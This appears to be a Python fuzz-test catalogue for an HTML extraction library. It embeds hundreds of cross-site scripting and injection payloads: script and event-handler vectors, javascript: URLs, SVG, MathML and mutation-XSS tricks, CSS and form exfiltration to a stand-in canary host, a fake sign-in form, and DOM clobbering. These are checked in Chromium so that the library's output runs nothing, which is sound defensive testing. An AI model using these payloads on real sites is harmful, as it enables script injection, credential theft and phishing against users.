"""A catalogue of attacks on whoever shows a page: each kind inside of content that is kept, opened again in Chromium.

    python -m tests.fuzz.catalogue               every kind in every form, as every writer writes it
    python -m tests.fuzz.catalogue --list        the kinds

A kind stands on a page twice: as markup, and quoted, which is how it reaches texts, attributes, code and metadata. What
is written of it as HTML, as a page to read, as a chapter of a book (XHTML), and as Markdown that is rendered with HTML
on, does nothing in the browser: no script runs, nothing but pictures is asked for, no handler is left, and no link that
would run something. Most kinds do something there as they are; the others wait for another browser or a second parse.
"""

import argparse
import sys
import zipfile
from collections.abc import Iterable, Iterator, Mapping, Sequence
from html import escape
from io import BytesIO

import ridgeline
from ridgeline.output.epub import write_book

from .documents import Document
from .payloads import HIT
from .rendering import Harness, rendered, run_harness
from .vocabulary import PROSE

CANARY = "http://canary.invalid"
EXTRACTORS = ("summit", "everything")
_A_LOAD = 120
_STORY = "".join(f"<p>{text}</p>" for text in PROSE)
_STYLE_LINK = '<link rel="stylesheet" type="text/css" href="style.css"/>'

_SCRIPTS = {
    "plain": "<script>{hit}</script>",
    "upper case": "<SCRIPT>{hit}</SCRIPT>",
    "spaces in the tag": "<script\n\f\t>{hit}</script\n x>",
    "slash in the tag": "<script/x>{hit}</script>",
    "no end": "<script>{hit}\n",
    "source": "<script src={canary}/s.js></script>",
    "source of data": "<script src='data:text/javascript,{hit}'></script>",
    "module": "<script type=module>{hit}</script>",
    "legacy type": "<script type=text/ecmascript>{hit}</script>",
    "language": "<script language=javascript1.5>{hit}</script>",
    "defer": "<script defer src='data:text/javascript,{hit}'></script>",
    "nomodule": "<script nomodule>{hit}</script>",
    "import map": '<script type=importmap>{{"imports":{{"a":"data:text/javascript,{hit}"}}}}</script>'
    "<script type=module>import 'a'</script>",
    "speculation rules": '<script type=speculationrules>{{"prefetch":[{{"urls":["{canary}/p"]}}]}}</script>',
    "split by a tag": "<scr<b>ipt>{hit}</scr</b>ipt>",
    "nested names": "<scr<script>ipt>{hit}</scr</script>ipt>",
    "in a paragraph": "<p>before <script>{hit}</script> after</p>",
    "in a heading": "<h2>A<script>{hit}</script>B</h2>",
    "in a link": "<a href=/x><script>{hit}</script>text</a>",
    "in a table": "<table><script>{hit}</script><tr><td>a</table>",
    "in a list": "<ul><script>{hit}</script><li>a</ul>",
    "in a select": "<select><option><script>{hit}</script></select>",
    "in a frameset": "<frameset><frame src='javascript:parent.{hit}'></frameset>",
    "comment like": "<!--><script>{hit}</script>-->",
    "comment with a bang": "<!-- --!><script>{hit}</script>-->",
    "comment that ends at once": "<!---><script>{hit}</script>-->",
    "conditional comment": "<!--[if true]><script>{hit}</script><![endif]-->",
    "processing instruction": "<?xml x='?><script>{hit}</script>'?>",
    "document type": "<!DOCTYPE x '><script>{hit}</script>'>",
    "CDATA outside of SVG": "<![CDATA[><script>{hit}</script>]]>",
    "element whose name is a tag": "</<script>{hit}</script>",
    "end tag with attributes": "</p title='><script>{hit}</script>'>",
    "double escaped": "<script><!--<script></script>{hit}//--></script>",
    "inside of an unknown element": "<x-y><script>{hit}</script></x-y>",
    "inside of an object": "<object><script>{hit}</script></object>",
    "inside of a picture": "<picture><script>{hit}</script><img src=x></picture>",
    "inside of audio": "<audio><script>{hit}</script></audio>",
    "inside of a marquee": "<marquee><script>{hit}</script></marquee>",
}

# Handlers, with an element that fires them by itself or is there to be touched.
_HANDLERS = {
    "image error": "<img src=x onerror={hit}>",
    "image load": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=' onload={hit}>",
    "image without a space": "<img/src=x/onerror={hit}>",
    "image, double quotes": '<img src=x onerror="{hit}">',
    "image, back quotes": "<img src=`x` onerror={hit}>",
    "image, upper case": "<IMG SRC=x ONERROR={hit}>",
    "image, entities": "<img src=x onerror=&#112;arent.hit(name)>",
    "image, line break in the value": "<img src=x onerror='\n{hit}\n'>",
    "image, no value before": "<img alt onerror={hit} src=x>",
    "image, the name image": "<image src=x onerror={hit}>",
    "image, source set": "<img srcset='x 1x' onerror={hit}>",
    "image, lazy": "<img loading=lazy src=x onerror={hit}>",
    "picture source": "<picture><source srcset=x onerror={hit}><img src=x onerror={hit}></picture>",
    "body load": "<body onload={hit}>",
    "body page show": "<body onpageshow={hit}>",
    "body message": "<body onmessage={hit}>",
    "body resize": "<body onresize={hit}>",
    "body hash change": "<body onhashchange={hit}>",
    "svg load": "<svg onload={hit}>",
    "svg load, slash": "<svg/onload={hit}>",
    "style load": "<style onload={hit}>p {{ }}</style>",
    "link load": "<link rel=stylesheet href='data:text/css,p' onload={hit}>",
    "script error": "<script src=x: onerror={hit}></script>",
    "frame load": "<iframe onload={hit}></iframe>",
    "object error": "<object data=x: onerror={hit}></object>",
    "embed load": "<embed src='data:text/html,x' onload={hit}>",
    "video error": "<video src=x onerror={hit}></video>",
    "video source error": "<video><source src=x onerror={hit}></video>",
    "audio error": "<audio src=x onerror={hit}></audio>",
    "track error": "<video controls><track default src=x onerror={hit}></video>",
    "input image error": "<input type=image src=x onerror={hit}>",
    "input focus": "<input autofocus onfocus={hit}>",
    "text area focus": "<textarea autofocus onfocus={hit}>x</textarea>",
    "select focus": "<select autofocus onfocus={hit}><option>x</select>",
    "button focus": "<button autofocus onfocus={hit}>x</button>",
    "element focus": "<p tabindex=0 autofocus onfocus={hit}>x</p>",
    "editable focus": "<p contenteditable autofocus onfocusin={hit}>x</p>",
    "details toggle": "<details open ontoggle={hit}><summary>a</summary>b</details>",
    "details before toggle": "<details popover onbeforetoggle={hit}>b</details>",
    "dialog close": "<dialog open onclose={hit}>x</dialog>",
    "marquee start": "<marquee onstart={hit}>x</marquee>",
    "marquee bounce": "<marquee behavior=alternate onbounce={hit}>x</marquee>",
    "animation": "<style>@keyframes a {{ }}</style><p style='animation: a 1s' onanimationstart={hit}>x</p>",
    "transition": "<p style='transition: color 1s' ontransitionend={hit}>x</p>",
    "click": "<p onclick={hit}>x</p>",
    "pointer": "<p onpointerover={hit} onpointerrawupdate={hit}>x</p>",
    "mouse": "<a href=/x onmouseover={hit}>x</a>",
    "touch": "<p ontouchstart={hit}>x</p>",
    "keys": "<input onkeydown={hit} value=x>",
    "clipboard": "<p oncopy={hit} oncut={hit} onpaste={hit}>x</p>",
    "drag": "<p draggable=true ondragstart={hit}>x</p>",
    "scroll": "<pre style='height:1px;overflow:scroll' onscroll={hit} onscrollend={hit}>x\n\n\nx</pre>",
    "wheel": "<blockquote onwheel={hit}>x</blockquote>",
    "selection": "<p onselectstart={hit} onselectionchange={hit}>x</p>",
    "content visibility": "<p style='content-visibility:auto' oncontentvisibilityautostatechange={hit}>x</p>",
    "security policy": "<p onsecuritypolicyviolation={hit}>x</p>",
    "slot change": "<p onslotchange={hit}>x</p>",
    "made up": "<p onanything={hit}>x</p>",
    "on a heading": "<h2 onclick={hit}>x</h2>",
    "on a cell": "<table onclick={hit}><tr onclick={hit}><td onclick={hit}>x<td>y</table>",
    "on a list": "<ul onclick={hit}><li onclick={hit}>x</ul>",
    "on code": "<pre onclick={hit}><code onclick={hit} class='language-x'>x</code></pre>",
    "on a caption": "<figure onclick={hit}><img src=x><figcaption onclick={hit}>x</figcaption></figure>",
    "on a quotation": "<q onclick={hit}>x</q><ruby onclick={hit}>x<rt onclick={hit}>y</ruby>",
}

# Addresses that run, one line a disguise; each is tried as a link, a picture and more.
_ADDRESSES = {
    "plain": "javascript:{hit}",
    "mixed case": "jAvAsCrIpT:{hit}",
    "leading space": "  javascript:{hit}",
    "leading control": "&#1;&#31;javascript:{hit}",
    "tab inside": "java&Tab;script:{hit}",
    "line break inside": "java&NewLine;script:{hit}",
    "carriage return inside": "java&#13;script:{hit}",
    "colon as an entity": "javascript&colon;{hit}",
    "decimal entities": "&#106;&#97;&#118;&#97;script:{hit}",
    "hexadecimal entities": "&#x6A&#x61&#x76&#x61script:{hit}",
    "padded entities": "&#0000106avascript:{hit}",
    "entity of a letter": "javasc&#114;ipt&#58;{hit}",
    "comment": "javascript:/*--></title></style></textarea></script>*/{hit}",
    "address inside": "javascript://example.org/%0a{hit}",
    "host inside": "javascript://{hit}@example.org:80/%0d{hit}",
    "percent escapes": "javascript:%70arent.hit(name)",
    "template literal": "javascript:`${{{hit}}}`",
    "void": "javascript:void({hit})",
    "view source": "view-source:javascript:{hit}",
    "feed": "feed:javascript:{hit}",
    "jar": "jar:javascript:{hit}!/",
    "visual basic": "vbscript:{hit}",
    "live script": "livescript:{hit}",
    "mocha": "mocha:{hit}",
    "data, HTML": "data:text/html,<script>parent.{hit}</script>",
    "data, base 64": "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KG5hbWUpPC9zY3JpcHQ+",
    "data, SVG": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.{hit}'/>",
    "data, XHTML": "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>x</script></html>",
    "data, no type": "data:,<script>parent.{hit}</script>",
    "blob": "blob:{canary}/x",
    "file system": "filesystem:{canary}/temporary/x",
    "file": "file:///etc/passwd",
    "about": "about:srcdoc",
    "intent": "intent://x#Intent;scheme=javascript;end",
    "local network": "ms-msdt:/id",
    "zero width": "java\u200bscript:{hit}",
    "byte order mark": "\ufeffjavascript:{hit}",
    "full width": "\uff4aavascript\uff1a{hit}",
    "no-break space": "\xa0javascript:{hit}",
    "long s": "java\u017fcript:{hit}",
    "line separator": "java\u2028script:{hit}",
}
_ADDRESS_PLACES = (
    '<p><a href="{}">A link in the text</a> <img src="{}" alt=\'A picture\'> <a href="{}"><img src=x alt=b></a></p>'
    '<blockquote cite="{}">x</blockquote><iframe src="{}" title=x></iframe><video src="{}" poster="{}">x</video>'
    '<form action="{}"><button formaction="{}">x</button></form><object data="{}"><p>y</p></object><embed src="{}">'
    '<svg><a xlink:href="{}"><text>z</text></a></svg><math href="{}"><mi>x</mi></math><del cite="{}">d</del>'
    '<a ping="{}" href=/ok>p</a><img srcset="{} 2x" alt=s><img longdesc="{}" lowsrc="{}" alt=l src=x>'
)

_SVG = {
    "script": "<svg><script>{hit}</script></svg>",
    "script with a reference": "<svg><script href='data:text/javascript,{hit}'/></svg>",
    "script, old reference": "<svg><script xlink:href='data:text/javascript,{hit}'/></svg>",
    "script as entities": "<svg><script>&#112;arent.hit(name)</script></svg>",
    "script in CDATA": "<svg><script><![CDATA[{hit}]]></script></svg>",
    "link": "<svg><a href='javascript:{hit}'><text y=9>x</text></a></svg>",
    "old link": "<svg><a xlink:href='javascript:{hit}'><text y=9>x</text></a></svg>",
    "link by animation": "<svg><a><animate attributeName=href values='javascript:{hit}'/><text y=9>x</text></a></svg>",
    "link by set": "<svg><a><set attributeName=xlink:href to='javascript:{hit}'/><text y=9>x</text></a></svg>",
    "animation begins": "<svg><animate onbegin={hit} attributeName=x dur=1s></svg>",
    "animation ends": "<svg><animate onend={hit} attributeName=x dur=0.01s></svg>",
    "set begins": "<svg><set onbegin={hit} attributeName=x to=1></svg>",
    "motion begins": "<svg><animateMotion onbegin={hit} dur=1s path='M0 0'/></svg>",
    "transform begins": "<svg><animateTransform onbegin={hit} attributeName=transform dur=1s></svg>",
    "use of data": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"/></svg>",
    "use from elsewhere": "<svg><use href='{canary}/a.svg#x'/></svg>",
    "image": "<svg><image href=x onerror={hit}></svg>",
    "foreign object": "<svg><foreignObject><img src=x onerror={hit}></foreignObject></svg>",
    "frame in a foreign object": "<svg><foreignObject><iframe srcdoc='<script>parent.{hit}</script>'></iframe></svg>",
    "title": "<svg><title><img src=x onerror={hit}></title></svg>",
    "description": "<svg><desc><img src=x onerror={hit}></desc></svg>",
    "style": "<svg><style>&lt;img src=x onerror={hit}&gt;</style></svg>",
    "style that ends": "<svg><style><a title='</style><img src=x onerror={hit}>'></style></svg>",
    "handler": "<svg><g onload={hit}></g></svg>",
    "focus": "<svg><a href=x tabindex=0 autofocus onfocus={hit}><text>x</text></a></svg>",
    "discard": "<svg><discard onbegin={hit}></svg>",
    "filter": "<svg><filter><feImage href='{canary}/f.svg'/></filter></svg>",
    "namespace of HTML": "<svg xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{hit}</h:script></svg>",
    "breakout by a paragraph": "<svg><p><style><img src=x onerror={hit}></style></svg>",
    "breakout by font": "<svg><font color=x><img src=x onerror={hit}></svg>",
    "comment": "<svg><!--<script>--><img src=x onerror={hit}></svg>",
    "nested": "<svg><svg onload={hit}></svg></svg>",
    "entity in a document type": "<!DOCTYPE svg [<!ENTITY x '<script>{hit}</script>'>]><svg>&x;</svg>",
    "handler element": "<svg><handler type=text/javascript ev:event=load>{hit}</handler></svg>",
    "listener": "<svg><ev:listener event=load handler='javascript:{hit}'/></svg>",
}

_MATH = {
    "link": "<math href='javascript:{hit}'><mi>x</mi></math>",
    "old link": "<math xlink:href='javascript:{hit}'><mi>x</mi></math>",
    "action": "<math><maction actiontype='statusline#x' xlink:href='javascript:{hit}'><mi>x</mi></maction></math>",
    "text": "<math><mtext><img src=x onerror={hit}></mtext></math>",
    "script in text": "<math><mtext><script>{hit}</script></mtext></math>",
    "annotation": "<math><semantics><mi>x</mi><annotation-xml encoding=text/html><img src=x onerror={hit}>",
    "annotation, upper case": "<math><annotation-xml encoding='TEXT/HTML'><svg onload={hit}></math>",
    "annotation of XML": "<math><annotation-xml encoding='application/xhtml+xml'><img src=x onerror={hit}></math>",
    "alternative text": "<math alttext='<img src=x onerror={hit}>'><mi>x</mi></math>",
    "TeX that is markup": "<math><annotation encoding='application/x-tex'>&lt;img src=x onerror={hit}&gt;</annotation>",
    "TeX with a link": "<math alttext='\\href{{javascript:{hit}}}{{x}}'><mi>x</mi></math>",
    "TeX with an HTML command": "<script type='math/tex'>\\htmlData{{x}}\\unicode{{"
    "<img src=x onerror={hit}>}}</script>",
    "handler": "<math onclick={hit}><mi onclick={hit}>x</mi></math>",
    "focus": "<math tabindex=0 autofocus onfocus={hit}><mi>x</mi></math>",
    "style": "<math><mi style='background:url({canary}/m)'>x</mi></math>",
}

# Markup that is harmless until it is written and parsed a second time.
_MUTATION = {
    "style in a glyph": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=x onerror={hit}>'>",
    "style in a malign mark": "<math><mtext><table><malignmark><style><!--</style><img title='--&gt;<img src=x "
    "onerror={hit}>'>",
    "form in a form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={hit}>",
    "nested forms by a table": "<form><table></form><form></table></form><math><style><img src=x onerror={hit}>",
    "option group": "<svg></p><style><a id='</style><img src=x onerror={hit}>'>",
    "end of a paragraph in math": "<math></p><style><!--</style><img src=x onerror={hit}>--></style>",
    "end of a break in SVG": "<svg></br><style><a title='</style><img src=x onerror={hit}>'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror={hit}>'></noscript>",
    "noscript, style": "<noscript><style></noscript><img src=x onerror={hit}></style></noscript>",
    "no frames": "<noframes><p title='</noframes><img src=x onerror={hit}>'></noframes>",
    "no embed": "<noembed><p title='</noembed><img src=x onerror={hit}>'></noembed>",
    "frame text": "<iframe><p title='</iframe><img src=x onerror={hit}>'></iframe>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror={hit}>'></xmp>",
    "text area": "<textarea><p title='</textarea><img src=x onerror={hit}>'></textarea>",
    "title": "<title><p title='</title><img src=x onerror={hit}>'></title>",
    "listing": "<listing>&lt;img src=x onerror={hit}&gt;</listing>",
    "plain text": "<plaintext><img src=x onerror={hit}>",
    "select with a style": "<select><style><img title='</style><img src=x onerror={hit}>'></select>",
    "select with a template": "<select><template><style><a title='</style></template></select>"
    "<img src=x onerror={hit}>'>",
    "table foster": "<table><tr><td><svg><desc><table><style><a title='</style><img src=x onerror={hit}>'>",
    "caption": "<table><caption><svg><title><table><caption><style><!--</style><img src=x onerror={hit}>--></style>",
    "formatting copied": "<a href=x><b><p></a><i title='</p><img src=x onerror={hit}>'></b>",
    "four nested anchors": "<b><b><b><b><p>1</b></b></b></b><a title='<img src=x onerror={hit}>'>2",
    "many levels": "<div>" * 600 + "<svg><style><img title='</style><img src=x onerror={hit}>'>" + "</div>" * 600,
    "comment in math": "<math><!--</math><img src=x onerror={hit}>--><mi>x</mi></math>",
    "CDATA in SVG": "<svg><![CDATA[</svg><img src=x onerror={hit}>]]></svg>",
    "CDATA in math": "<math><![CDATA[><img src=x onerror={hit}>]]></math>",
    "CDATA that ends as a comment": "<svg><![CDATA[--><img src=x onerror={hit}>]]><!-- --></svg>",
    "back quote": "<img src=x alt='``onerror={hit}'>",
    "back quote before a space": "<p title='`onmouseover={hit} '>x</p>",
    "greater than in a value": "<img alt='a>b<img src=x onerror={hit}>' src=x>",
    "ampersand twice": "<p>&amp;lt;img src=x onerror={hit}&amp;gt;</p>",
    "entity without semicolon": "<p>&ltimg src=x onerror={hit}&gt</p>",
    "entity beyond Unicode": "<p>&#x110000;&#60;img src=x onerror={hit}&#62;</p>",
    "unclosed value": '<img src=x alt="<p>text</p><img src=x onerror={hit}>',
    "unclosed tag": "<img src=x onerror={hit} <p>text</p>",
    "unclosed comment": "<p>text</p><!-- <img src=x onerror={hit}>",
    "attribute that is a tag": "<p <img src=x onerror={hit}>x</p>",
    "name with a quote": "<p x'=1 \"><img src=x onerror={hit}>'>x</p>",
    "equals first": "<p ='><img src=x onerror={hit}>'>x</p>",
    "document in a frame": "<iframe srcdoc='<img src=x onerror=parent.{hit}>'></iframe>",
    "escaped document in a frame": "<iframe srcdoc='&lt;script&gt;parent.{hit}&lt;/script&gt;'></iframe>",
    "pre with a line": "<pre>\n\n<img src=x onerror={hit}></pre>"
    "<textarea>\n&lt;/textarea>&lt;img src=x onerror={hit}></textarea>",
    "frameset after text": "<frameset onload={hit}><frame></frameset>",
    "image in a head": "</head><head><img src=x onerror={hit}></head>",
    "after the end": "</body></html><img src=x onerror={hit}>",
    "second body": "<body onload={hit} onfocus={hit}><html onclick={hit}>",
}

_TEMPLATES = {
    "template": "<template><script>{hit}</script><img src=x onerror={hit}></template>",
    "nested": "<template><template><img src=x onerror={hit}></template></template>",
    "shadow root, open": "<div><template shadowrootmode=open><img src=x onerror={hit}></template></div>",
    "shadow root, closed": "<div><template shadowrootmode=closed><script>{hit}</script></template></div>",
    "shadow root on a paragraph": "<p><template shadowrootmode=open><style onload={hit}>p {{}}</style></template></p>",
    "shadow root, serializable": "<div><template shadowrootmode=open shadowrootserializable>"
    "<svg onload={hit}></template>",
    "old shadow root": "<div><template shadowroot=open><img src=x onerror={hit}></template></div>",
    "in a table": "<table><template><tr><td><img src=x onerror={hit}></template></table>",
    "in SVG": "<svg><template><img src=x onerror={hit}></template></svg>",
    "slot": "<div><template shadowrootmode=open><slot onslotchange={hit}></slot></template>x</div>",
    "angular": "<p ng-app ng-csp>{{{{constructor.constructor('{hit}')()}}}}</p>",
    "vue": "<p v-html=\"'<img src=x onerror={hit}>'\" v-on:click={hit} @click={hit}>{{{{ {hit} }}}}</p>",
    "alpine": "<p x-data x-init={hit} x-html=\"'<img src=x onerror={hit}>'\">x</p>",
    "htmx": "<p hx-get='{canary}/x' hx-trigger=load hx-on:click={hit}>x</p>",
    "stimulus": "<p data-controller=x data-action='load->x#y'>x</p>",
    "bootstrap": "<a data-toggle=tooltip data-html=true title='&lt;img src=x onerror={hit}&gt;'>x</a>",
    "web component": "<x-y onclick={hit}><slot onslotchange={hit}>x</slot></x-y><p is=x-p>x</p>",
}

_STYLES = {
    "import": "<style>@import '{canary}/i.css';</style>",
    "font": "<style>@font-face {{ font-family: f; src: url({canary}/f) }} p {{ font-family: f }}</style>",
    "background": "<style>p {{ background: url({canary}/b) }}</style>",
    "attribute leak": "<style>a[href^=x] {{ background: url({canary}/x) }}</style><a href=xyz>x</a>",
    "cursor": "<p style='cursor:url({canary}/c),auto'>x</p>",
    "content": "<p style='content:url({canary}/c)'>x</p>",
    "list style": "<ul style='list-style:url({canary}/l)'><li>x</ul>",
    "border image": "<p style='border-image:url({canary}/b) 1'>x</p>",
    "mask": "<p style='mask:url({canary}/m.svg#x)'>x</p>",
    "filter": "<p style='filter:url({canary}/f.svg#x)'>x</p>",
    "expression": "<p style='width:expression({hit})'>x</p>",
    "behaviour": "<p style='behavior:url({canary}/b.htc);-moz-binding:url({canary}/b.xml#x)'>x</p>",
    "script in an address": "<p style='background:url(javascript:{hit})'>x</p>",
    "escaped": "<p style='b\\61 ckground:u\\72l({canary}/b)'>x</p>",
    "cover": "<p style='position:fixed;inset:0;z-index:9999;background:#fff'>Sign in again</p>",
    "style that ends early": "<style></style><img src=x onerror={hit}></style>",
    "link to a sheet": "<link rel=stylesheet href={canary}/a.css>",
    "preload": "<link rel=preload as=script href={canary}/p.js><link rel=modulepreload href={canary}/m.js>",
    "prefetch": "<link rel='dns-prefetch preconnect prefetch prerender' href={canary}/p>",
    "icon and manifest": "<link rel=icon href={canary}/i><link rel=manifest href={canary}/m>",
    "html import": "<link rel=import href='data:text/html,<script>{hit}</script>'>",
    "view transition": "<style>@view-transition {{ navigation: auto }} ::view-transition {{ display: none }}</style>",
    "background attribute": "<table background={canary}/t><tr><td background={canary}/d>x<td>y</table>",
}

_FORMS = {
    "action": "<form action={canary}/f><input name=password><button>Sign in</button></form>",
    "action that runs": "<form action='javascript:{hit}'><button>x</button></form>",
    "button's action": "<form id=f></form><button form=f formaction='javascript:{hit}'>x</button>",
    "image button": "<form action={canary}/f><input type=image src=x formaction='javascript:{hit}'></form>",
    "hidden field": "<form action={canary}/f><input type=hidden name=token value=x></form>",
    "steals the fields around it": "<form action={canary}/f><textarea name=all>",
    "target": "<form action={canary}/f target=_top><input type=submit></form>",
    "multipart": "<form action={canary}/f method=post enctype=text/plain><input name='{{\"a\":\"' value='\"}}'></form>",
    "dialog": "<dialog open><form method=dialog><button formmethod=post formaction={canary}/f>x"
    "</button></form></dialog>",
    "key generator": "<form action={canary}/f><keygen name=k autofocus onfocus={hit}></form>",
    "popover": "<button popovertarget=p>x</button><p popover id=p onbeforetoggle={hit}>y</p>",
    "invoker": "<button commandfor=d command=show-modal>x</button><dialog id=d oncommand={hit}>y</dialog>",
    "isindex": "<isindex action='javascript:{hit}' type=image>",
}

_CLOBBERING = {
    "form fields": "<form id=document name=document><input name=attributes><input name=nodeName>"
    "<input name=parentNode>",
    "body": "<img name=body><img name=cookie><img name=getElementById><form name=documentElement></form>",
    "named twice": "<a id=hit></a><a id=hit name=toString href='javascript:{hit}'></a>",
    "frame name": "<iframe name=hit></iframe><iframe name=top srcdoc=x></iframe>",
    "object name": "<object name=ran></object><embed name=ran>",
    "prototype": "<p id=__proto__ class=constructor>x</p><a name=__proto__ id=constructor href=x>y</a>",
    "current script": "<img name=currentScript src=x><form name=scripts></form>",
    "own names": "<p class='rl-leaf kept source picture' data-l=0 data-ridgeline=x>x</p><rl-leaf data-l=1>y</rl-leaf>",
    "own anchors": "<h2 id='fn-1'>a</h2><p id='fnref-1'>b</p><sup><a href='#fn-1' id='fnref-1'>1</a></sup>",
    "anchor that breaks out": "<sup id='\"><img src=x onerror={hit}>'><a href='#\">"
    "<img src=x onerror={hit}>'>1</a></sup>",
    "usemap": "<img src=x usemap=#m><map name=m><area shape=default href='javascript:{hit}'></map>",
    "microdata": "<p itemscope itemid='javascript:{hit}' itemprop='\"><img src=x onerror={hit}>'>x</p>",
}

_DOCUMENT = {
    "refresh": "<meta http-equiv=refresh content='0;url={canary}/r'>",
    "refresh that runs": "<meta http-equiv=refresh content='0;url=javascript:{hit}'>",
    "refresh of data": "<meta http-equiv=refresh content='0;url=data:text/html,<script>parent.{hit}</script>'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">",
    "cookie": "<meta http-equiv=Set-Cookie content='session=stolen'>",
    "referrer": "<meta name=referrer content=unsafe-url><a href={canary}/ referrerpolicy=unsafe-url>x</a>",
    "origin trial": "<meta http-equiv=origin-trial content=x>",
    "base": "<base href={canary}/><a href=x>x</a><img src=y alt=y>",
    "base that runs": "<base href='javascript:{hit}//'><a href=x>x</a>",
    "base target": "<base target=_top><a href=x>x</a>",
    "frame": "<iframe src={canary}/frame></iframe>",
    "frame that runs": "<iframe src='javascript:parent.{hit}'></iframe>",
    "frame with permissions": ""
    "<iframe src={canary}/x allow='camera *' sandbox='allow-scripts allow-same-origin'></iframe>",
    "fenced frame": "<fencedframe src={canary}/x></fencedframe><portal src={canary}/x></portal>",
    "object": "<object data='data:text/html,<script>parent.{hit}</script>'></object>",
    "object parameters": "<object><param name=src value='javascript:{hit}'><param name=code value={canary}/x></object>",
    "applet": "<applet code=x archive={canary}/a.jar></applet>",
    "layer": "<layer src={canary}/l></layer><ilayer src={canary}/l></ilayer><bgsound src='javascript:{hit}'>",
    "XML island": "<xml id=x><i><![CDATA[<img src=x onerror={hit}>]]></i></xml>"
    "<p datasrc=#x datafld=i dataformatas=html>",
    "window target": "<a href={canary}/x target=_blank rel=opener>x</a>",
    "download": "<a href='data:application/x-msdownload,x' download=x.exe>x</a>",
    "attribution": "<a href=/x attributionsrc={canary}/a>x</a><img src=x attributionsrc={canary}/b alt=z>",
    "language": "<p lang='\"><img src=x onerror={hit}>' dir='\"><img src=x onerror={hit}>'>x</p>",
    "code language": "<pre><code class='language-\"><img/src=x/onerror={hit}>'>x</code></pre>",
    "time": "<time datetime='\"><img src=x onerror={hit}>'>2 May 2024</time>",
    "abbreviation": "<abbr title='\"><img src=x onerror={hit}>'>x</abbr>",
    "cell sizes": "<table><tr><td colspan='2\"onclick={hit}'>a<td rowspan='1 onclick={hit}'>b<tr><td>c<td>d</table>",
    "list numbers": "<ol start='1\"onclick={hit}' type='><img src=x onerror={hit}>'>"
    "<li value='2\"onclick={hit}'>x</ol>",
    "alternative text": "<img src=x alt='\"><img src=x onerror={hit}>' title=\"'><img src=x onerror={hit}>\">",
    "caption": "<figure><img src=x alt=x><figcaption>&lt;img src=x onerror={hit}&gt;</figcaption></figure>",
    "callout": "<div class='admonition note\"><img/src=x/onerror={hit}>'>"
    "<p class=title>&lt;b onclick={hit}&gt;</p>x</div>",
    "poster": "<video poster='javascript:{hit}' controls><track src={canary}/t kind=captions default></video>",
    "quoted address": "<a href='https://x.test/\"onmouseover=\"{hit}'>x</a>"
    "<img src='https://x.test/\"onerror=\"{hit}' alt=y>",
    "address with user": "<a href='https://example.org@canary.invalid/'>https://example.org</a>",
    "address of a broken host": "<a href='http://[::1/'>x</a><a href='https:&#92;&#92;canary.invalid'>y</a>",
}

_ENCODINGS = {
    "UTF-7": "+ADw-script+AD4-{hit}+ADw-/script+AD4-",
    "over-long UTF-8, as text": "\xc0\xbcscript\xc0\xbe{hit}\xc0\xbc/script\xc0\xbe",
    "full width brackets": "\uff1cscript\uff1e{hit}\uff1c/script\uff1e",
    "NUL in a name": "<scr\0ipt>{hit}</scr\0ipt><img src=x on\0error={hit}>",
    "NUL before a bracket": "\0<\0script\0>{hit}</script>",
    "half of a character": "<p title='\ud800'>\udfff<img src=x onerror={hit}></p>",
    "byte order mark in the text": "\ufeff<img\ufeff src=x onerror={hit}>",
    "right to left": "<p>\u202e<img src=x onerror={hit}>\u202c</p>",
    "Kelvin sign": "<lin\u212a rel=stylesheet href={canary}/k><\u017fcript>{hit}</\u017fcript>",
    "dotless letter": "<\u0131mg src=x onerror={hit}><scr\u0131pt>{hit}</scr\u0131pt>",
    "form feed": "<img\fsrc=x\fonerror={hit}>",
    "vertical tab": "<img\x0bsrc=x onerror={hit}><img src=x\x0bonerror={hit}>",
    "next line": "<img src=x \x85onerror={hit}><p>\x85</p>",
    "escape sequence": "<p>\x1b$B<img src=x onerror={hit}>\x1b(B</p>",
    "shift characters": "<p>\x0e<img src=x onerror={hit}>\x0f</p>",
    "entities of brackets": "<p>&lt;img src=x onerror={hit}&gt; &LT;svg onload={hit}&GT; &#x3c;b&#x3e;</p>",
    "character set in the text": "<meta charset=utf-7>"
    "<meta http-equiv=content-type content='text/html; charset=hz-gb-2312'>",
}

_GROUPS: Mapping[str, Mapping[str, str]] = {
    "script": _SCRIPTS,
    "handler": _HANDLERS,
    "address": {name: _ADDRESS_PLACES.replace("{}", value) for name, value in _ADDRESSES.items()},
    "SVG": _SVG,
    "MathML": _MATH,
    "mutation": _MUTATION,
    "template": _TEMPLATES,
    "style": _STYLES,
    "form": _FORMS,
    "clobbering": _CLOBBERING,
    "document": _DOCUMENT,
    "encoding": _ENCODINGS,
}


def kinds() -> dict[str, str]:
    """All kinds of attack: markup by name."""
    return {
        f"{group}: {name}": markup.format(hit=HIT, canary=CANARY)
        for group, members in _GROUPS.items()
        for name, markup in members.items()
    }


def pages(markup: str) -> Iterator[Document]:
    """An attack as markup inside of content, and quoted wherever a page can say something."""
    said = escape(markup)
    url = "https://example.org/dir/page.html"
    yield Document(f"<title>The ferry</title><article><h1>The ferry</h1>{_STORY}{markup}{_STORY}</article>", url)
    yield Document(
        f"<title>{said}</title><meta name=author content='{said}'><meta property=og:site_name content='{said}'>"
        f"<meta name=description content='{said}'><link rel=canonical href='{said}'><html lang='{said}'>"
        f"<article><h1>{said}</h1>{_STORY}<p>{said}</p><p><img src=/x.png alt='{said}' title='{said}'></p>"
        f"<p><a href='{said}' title='{said}'>{said}</a></p><pre><code class='language-{said}'>{said}</code></pre>"
        f"<table><tr><th>{said}<th>b<tr><td>{said}<td>d</table><ul><li>{said}</ul><blockquote>{said}</blockquote>"
        f"<math alttext='{said}'><mi>x</mi></math><time datetime='{said}'>{said}</time>{_STORY}</article>",
        url,
    )


def written(document: Document, extractor: str) -> Iterator[str]:
    """What the writers make of a page, as HTML."""
    for options in ({}, {"whole_page": True}):
        yield from rendered(document, {"extractor": extractor, **options}, "html")
